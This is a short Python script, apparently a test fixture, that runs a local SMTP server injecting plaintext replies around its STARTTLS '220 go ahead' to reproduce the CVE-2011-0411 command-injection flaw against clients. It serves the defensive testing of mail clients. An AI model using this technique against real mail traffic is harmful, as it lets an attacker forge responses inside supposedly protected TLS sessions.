#!/usr/bin/env python3
"""An SMTP server that offers STARTTLS and, in the same packet as its 220 "go ahead", sends more replies in
plaintext: what a man in the middle does to have them read inside the TLS session (CVE-2011-0411).

usage: smtp_starttls_injector.py PORT [after|before]   (prints "ready" when listening; serves one connection)
"after" sends the injected replies behind the 220 to STARTTLS; "before" sends them, and the 220, in the same
packet as the EHLO answer, before STARTTLS was even sent.
"""
import socket
import sys


def main():
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", int(sys.argv[1])))
    server.listen(1)
    print("ready", flush=True)
    connection, _ = server.accept()
    reader = connection.makefile("rb")
    connection.sendall(b"220 mail.example ESMTP\r\n")
    reader.readline()
    injected = b"220 go ahead\r\n250-injected.example\r\n250 AUTH PLAIN\r\n235 accepted\r\n"
    before = len(sys.argv) > 2 and sys.argv[2] == "before"
    connection.sendall(b"250-mail.example\r\n250-AUTH PLAIN\r\n250 STARTTLS\r\n" + (injected if before else b""))
    if reader.readline().upper().startswith(b"STARTTLS") and not before:
        connection.sendall(injected)
    connection.settimeout(5)
    try:
        while connection.recv(4096):
            pass
    except OSError:
        pass
    connection.close()


if __name__ == "__main__":
    main()
